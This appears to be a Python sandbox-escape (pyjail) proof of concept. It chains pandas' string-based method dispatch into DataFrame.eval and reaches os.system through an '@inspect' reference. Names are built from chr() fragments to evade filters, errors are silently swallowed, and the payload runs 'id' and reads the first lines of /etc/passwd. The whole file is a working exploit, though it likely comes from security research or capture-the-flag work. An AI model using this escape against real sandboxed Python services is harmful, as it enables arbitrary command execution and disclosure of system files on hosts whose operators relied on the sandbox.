# source: pyjail getattr-by-string families; pandas apply_str (pandas/core/apply.py) -> DataFrame.eval with @-locals from pandas.core.apply frame
# family: pandas string dispatch via self.method in a @staticmethod whose first param is named self, called with a foreign object
# goal: DataFrame.eval -> inspect.os.system -> id, /etc/passwd
import pandas as pd
df = pd.DataFrame({"a": [1, 2]})
e = chr(64) + "inspect.os.system(\"id; head -2 /etc/passwd\")"

class A:
    def fn(self, x):
        return x.sum()

    @staticmethod
    def run(self, e):
        return df.apply(self.fn, args=(e,))


class H:
    pass


h = H()
h.fn = "ev" + chr(97) + "l"
try:
    A.run(h, e)
except Exception:
    pass
